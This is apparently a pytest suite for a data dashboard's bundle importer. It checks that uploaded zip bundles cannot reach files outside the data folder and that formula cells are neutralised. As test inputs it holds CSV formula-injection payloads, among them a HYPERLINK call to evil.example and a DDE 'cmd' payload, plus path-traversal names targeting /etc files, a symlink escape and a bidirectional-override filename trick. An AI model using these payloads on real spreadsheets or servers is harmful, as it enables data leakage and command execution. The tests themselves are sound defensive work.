"""Issue 26: a bundle can never make the product read, show or package a file outside data/;
malformed, huge or over-reaching bundles are refused with a reason; formula cells never
reach a written file. Every hostile bundle is built here."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from civdash.cli import main
from civdash.data import package
from civdash.data.validate import validate_dataset
from civdash.figures import source_text
from civdash.workbench.bundle import MAX_BUNDLE_ROWS, BundleError, build_bundle, read_bundle
from tests.cli.test_add import ROW, SOURCE, TEXT, snapshot

FORMULAS = ['=HYPERLINK("http://evil.example/?x","x")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]


def rebuilt(raw: bytes, replace: dict[str, bytes | None]) -> bytes:
    """The bundle with members replaced (None drops one, a new name adds one)."""
    source = zipfile.ZipFile(io.BytesIO(raw))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in source.infolist():
            if member.filename in replace:
                continue
            archive.writestr(member.filename, source.read(member))
        for name, content in replace.items():
            if content is not None:
                archive.writestr(name, content)
    return out.getvalue()


def csv_of(rows: list[dict]) -> bytes:
    return pd.DataFrame(rows).to_csv(index=False).encode("utf-8")


def add(bundle: bytes, data: Path, sources: Path, tmp_path: Path) -> int:
    path = tmp_path / "bundle.zip"
    path.write_bytes(bundle)
    return main(["add", str(path), "--data", str(data), "--sources", str(sources)])


def escaping(file: str, text_member: bool = False) -> bytes:
    """A bundle whose source names `file` as its text; its excerpt needs no real text."""
    raw = build_bundle(SOURCE, TEXT, [ROW])
    replace: dict[str, bytes | None] = {
        f"sources/{SOURCE['file']}": None,
        "sources.csv": csv_of([{**SOURCE, "file": file}]),
        "observations.csv": b"source_id,region_id,indicator_id,year,value\n",
    }
    if text_member:
        replace[f"sources/{Path(file).name}"] = b"x"
    return rebuilt(raw, replace)


@pytest.mark.parametrize(
    "file",
    [
        "/etc/hostname",
        "../../../../../../etc/os-release",
        "../../README.md",
        "sub/inner.txt",
        "Demo.TXT",
        "demo.md",
        "",
    ],
)
def test_a_source_text_outside_sources_or_not_in_the_bundle_is_refused(
    file, tiny_dataset, tmp_path, capsys
):
    data, sources = tiny_dataset
    before = snapshot(data, sources)
    assert add(escaping(file), data, sources, tmp_path) == 2
    assert "sources" in capsys.readouterr().err
    assert snapshot(data, sources) == before


def test_a_named_text_that_the_bundle_does_not_ship_is_refused(tiny_dataset, tmp_path, capsys):
    data, sources = tiny_dataset
    # demo.txt exists in data/sources, but a bundle may not claim an existing file as its own.
    bundle = rebuilt(
        build_bundle(SOURCE, TEXT, [ROW]),
        {"sources/demo_2013.txt": None, "sources.csv": csv_of([{**SOURCE, "file": "demo.txt"}])},
    )
    before = snapshot(data, sources)
    assert add(bundle, data, sources, tmp_path) == 2
    assert "has no sources/demo.txt" in capsys.readouterr().err
    assert snapshot(data, sources) == before


def test_the_validator_refuses_a_source_file_outside_sources(tiny_dataset, tmp_path):
    data, sources = tiny_dataset
    secret = tmp_path / "secret.txt"
    secret.write_text("2013年全市有低保户41000户", encoding="utf-8")
    for name in (str(secret), "../../secret.txt", "../secret.txt"):
        table = pd.read_csv(data / "sources.csv", dtype=str, keep_default_na=False)
        table.loc[0, "file"] = name
        table.to_csv(data / "sources.csv", index=False)
        report = validate_dataset(data, sources)
        assert any(p.column == "file" and "plain file name" in p.message for p in report.errors)
        # Nothing outside sources/ is read for the source page either.
        assert source_text.read_source_text(sources, name) is None


def test_a_symlinked_text_is_not_read(tiny_dataset, tmp_path):
    data, sources = tiny_dataset
    outside = tmp_path / "outside.txt"
    outside.write_text("secret", encoding="utf-8")
    (sources / "link.txt").symlink_to(outside)
    assert source_text.read_source_text(sources, "link.txt") is None


def test_the_package_refuses_a_member_outside_it_and_neutralises_cells(tiny_dataset):
    data, sources = tiny_dataset
    table = pd.read_csv(data / "sources.csv", dtype=str, keep_default_na=False)
    original = table.copy()
    table.loc[0, "file"] = "../../../../etc/hostname"
    table.to_csv(data / "sources.csv", index=False)
    with pytest.raises(package.PackageError):
        package.package_zip(data)
    with pytest.raises(package.PackageError):
        package.package_zip(data, {"../escape.txt": b"x"})
    # A hand-edited formula cell is written inert; numbers (even negative) stay numbers.
    original.loc[0, "notes"] = FORMULAS[0]
    original.loc[0, "title_en"] = "\u202eexe.tnemucod"
    original.to_csv(data / "sources.csv", index=False)
    archive = zipfile.ZipFile(io.BytesIO(package.package_zip(data)))
    names = archive.namelist()
    assert all(name.startswith("civil-affairs-data/") and ".." not in name for name in names)
    rows = list(
        csv.DictReader(io.StringIO(archive.read("civil-affairs-data/sources.csv").decode()))
    )
    assert rows[0]["notes"] == "'" + FORMULAS[0]
    assert rows[0]["title_en"] == "exe.tnemucod"
    observations = archive.read("civil-affairs-data/observations.csv")
    assert observations == (data / "observations.csv").read_bytes()


@pytest.mark.parametrize("column", ["title", "publisher", "notes", "title_en"])
@pytest.mark.parametrize("payload", FORMULAS)
def test_formula_cells_are_refused_by_add(column, payload, tiny_dataset, tmp_path, capsys):
    data, sources = tiny_dataset
    before = snapshot(data, sources)
    bundle = build_bundle({**SOURCE, column: payload}, TEXT, [ROW])
    assert add(bundle, data, sources, tmp_path) == 1
    assert "formula" in capsys.readouterr().err
    assert snapshot(data, sources) == before


def test_a_formula_indicator_id_and_a_bidi_note_are_refused(tiny_dataset, tmp_path, capsys):
    data, sources = tiny_dataset
    indicator = {
        "indicator_id": "-2+3+cmd",
        "category": "dibao",
        "name_zh": "测试指标",
        "name_en": "Test",
        "unit": "households",
        "period_type": "point",
    }
    bundle = build_bundle(SOURCE, TEXT, [{**ROW, "indicator_id": "-2+3+cmd"}], [indicator])
    assert add(bundle, data, sources, tmp_path) == 1
    assert "indicator_id: begins with '-'" in capsys.readouterr().err
    bundle = build_bundle(SOURCE, TEXT, [{**ROW, "note": "\u202eexe.x", "note_zh": "说明"}])
    assert add(bundle, data, sources, tmp_path) == 1
    assert "bidirectional" in capsys.readouterr().err


def bad_crc(raw: bytes) -> bytes:
    """observations.csv with one byte of its compressed data changed."""
    archive = zipfile.ZipFile(io.BytesIO(raw))
    info = archive.getinfo("observations.csv")
    data = bytearray(raw)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start + 2] ^= 0xFF
    return bytes(data)


@pytest.mark.parametrize(
    "make",
    [
        lambda raw: rebuilt(raw, {"observations.csv": b""}),
        lambda raw: rebuilt(raw, {"sources.csv": csv_of([SOURCE]).decode().encode("gbk")}),
        lambda raw: rebuilt(raw, {"sources/demo_2013.txt": TEXT.encode("gbk")}),
        bad_crc,
        lambda raw: raw[: len(raw) // 2],
    ],
    ids=["empty-table", "gbk-table", "gbk-text", "bad-crc", "truncated"],
)
def test_malformed_bundles_get_a_reason_not_a_traceback(make, tiny_dataset, tmp_path, capsys):
    data, sources = tiny_dataset
    before = snapshot(data, sources)
    assert add(make(build_bundle(SOURCE, TEXT, [ROW])), data, sources, tmp_path) == 2
    error = capsys.readouterr().err
    assert "Traceback" not in error and ("not a readable bundle" in error or "zip" in error)
    assert snapshot(data, sources) == before


def test_a_bundle_of_too_many_rows_is_refused_before_parsing(tiny_dataset, tmp_path, capsys):
    data, sources = tiny_dataset
    header = "source_id,region_id,indicator_id,year,value\n"
    rows = header + "demo_2013,330200,dibao_households,2013,1\n" * (MAX_BUNDLE_ROWS + 5)
    bundle = rebuilt(build_bundle(SOURCE, TEXT, [ROW]), {"observations.csv": rows.encode()})
    assert add(bundle, data, sources, tmp_path) == 2
    error = capsys.readouterr().err
    assert f"more than {MAX_BUNDLE_ROWS:,} rows" in error and error.count("\n") < 5


def test_problems_printed_by_add_are_capped(tiny_dataset, tmp_path, capsys):
    data, sources = tiny_dataset
    rows = [{**ROW, "value": 1, "year": 2013, "region_id": "330200"}] * 1
    many = [
        {**ROW, "excerpt": f"不在原文中的摘录{index}", "year": 2000 + index % 20}
        for index in range(600)
    ]
    bundle = build_bundle(SOURCE, TEXT, rows + many)
    assert add(bundle, data, sources, tmp_path) == 1
    error = capsys.readouterr().err
    assert error.count("\n") < 260 and "more problem" in error


@pytest.mark.parametrize(
    "member, content",
    [
        ("sources/orphan.txt", b"x"),
        ("regions.csv", b"region_id,name_zh,name_en,level,parent_id\n330999,Fake,Fake,city,\n"),
        ("plans.csv", b"plan_id,region_id\nevil_plan,330200\n"),
        ("targets.csv", b"target_id,plan_id\nx,evil_plan\n"),
        ("population.csv", b"region_id,year\n330200,2020\n"),
    ],
)
def test_a_bundle_touches_only_sources_observations_and_their_texts(
    member, content, tiny_dataset, tmp_path, capsys
):
    data, sources = tiny_dataset
    before = snapshot(data, sources)
    bundle = rebuilt(build_bundle(SOURCE, TEXT, [ROW]), {member: content})
    assert add(bundle, data, sources, tmp_path) == 2
    assert snapshot(data, sources) == before
    # The bundle the page writes (empty regions, plans and targets) is still accepted.
    assert read_bundle(build_bundle(SOURCE, TEXT, [ROW])).texts == {SOURCE["file"]: TEXT.encode()}


def test_read_bundle_refuses_unreadable_zip_with_bundle_error():
    with pytest.raises(BundleError):
        read_bundle(b"PK\x03\x04" + b"\x00" * 100)
